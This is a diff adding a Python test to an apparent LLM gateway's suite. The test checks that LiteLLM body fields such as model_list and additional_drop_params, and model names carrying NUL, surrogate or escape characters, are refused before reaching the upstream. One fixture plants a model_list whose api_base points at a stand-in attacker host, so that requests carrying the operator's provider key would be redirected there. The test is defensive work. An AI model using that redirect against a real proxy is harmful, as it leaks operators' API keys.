@@ -312,6 +312,40 @@ async def test_model_lists_and_fan_out_keys_are_refused(
     assert await balance(service, user) is None  # refused before admission: no account
 
 
+async def test_litellm_body_parameters_never_reach_it(http, envoy, service, upstream, auth, user):
+    """Found by an adversarial review against a real LiteLLM: ``model_list`` sent the request
+    to the client's own server with the operator's provider key (and a model the gate did not
+    price), ``additional_drop_params`` stripped the completion limit and the ``include_usage``
+    the gate wrote. Refused now, as is every field the schema does not have; a model name with
+    a NUL or a lone surrogate is a 400, not the 500 it was."""
+    before = len(upstream.requests)
+    planted = [{"model_name": "gpt-4o-mini", "litellm_params": {
+        "model": "openai/gpt-4o", "api_base": "http://attacker.example/v1"}}]
+    cases = [
+        (chat(model_list=planted), "fan_out", "o campo 'model_list' muda como o proxy chama o modelo"),
+        (chat(stream=True, max_tokens=1, additional_drop_params=["max_tokens", "stream_options"]), "fan_out",
+         "o campo 'additional_drop_params' muda como o proxy chama o modelo"),
+        (chat(aws_secret_access_key="x", aws_region_name="us-east-1"), "unknown_field",
+         "o campo 'aws_secret_access_key' não é aceito neste gateway"),
+        (chat(thinking={"type": "enabled", "budget_tokens": 100_000}), "unknown_field",
+         "o campo 'thinking' não é aceito neste gateway"),
+    ]
+    for body, code, message in cases:
+        status, _, raw = await post(http, envoy, auth(user), body)
+        assert status == 400, raw
+        error = refusal(raw)
+        assert error["code"] == code and message in error["message"], error
+    for raw_model in ('"gpt-4o-mini\\u0000"', '"gpt-4o-mini\\ud800"', '"gpt-4o-mini\\u001b[2J"'):
+        raw_body = json.dumps(chat()).replace('"gpt-4o-mini"', raw_model).encode()
+        async with http.post(envoy.url + CHAT, data=raw_body, headers={
+                **auth(user), "content-type": "application/json"}) as resp:
+            answer = await resp.read()
+            assert resp.status == 400, answer
+        assert refusal(answer)["code"] == "model_invalid"
+    assert len(upstream.requests) == before
+    assert await balance(service, user) is None
+
+
 # ---------------------------------------------------------------- 9. unreadable usage
 
 
